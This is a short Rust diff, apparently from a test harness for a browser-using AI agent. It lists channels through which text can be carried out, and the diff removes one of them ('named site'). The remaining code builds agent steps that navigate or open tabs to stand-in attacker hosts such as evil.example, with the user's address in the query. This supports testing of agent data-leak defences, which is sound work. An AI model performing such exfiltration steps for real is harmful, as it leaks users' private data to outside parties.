@@ -44,7 +44,7 @@ fn escaped(text: &str) -> String {
 }
 
 /// Channels that carry a text out.
-pub(super) const CHANNELS: [&str; 15] = [
+pub(super) const CHANNELS: [&str; 14] = [
     "query",
     "path",
     "fragment",
@@ -57,7 +57,6 @@ pub(super) const CHANNELS: [&str; 15] = [
     "value",
     "search field",
     "link, then query",
-    "named site",
     "redirect of the mail's own site",
     "script redirect of the mail's own site",
 ];
@@ -101,7 +100,6 @@ pub(super) fn sends(channel: &str, texts: &[String]) -> Vec<Step> {
                 steps.push(go(format!("http://{label}.evil.example/")));
             }
             "new tab" => steps.push(("open_browser", json!({ "url": format!("http://evil.example/c?d={address}") }))),
-            "named site" => steps.push(go(format!("http://blog.example/c?d={address}"))),
             "field" => steps.push(note("type_text", json!({ "text": text }))),
             "field and Enter" => steps.push(note("type_text", json!({ "text": text, "submit": true }))),
             "value" => steps.push(note("set_value", json!({ "value": text }))),
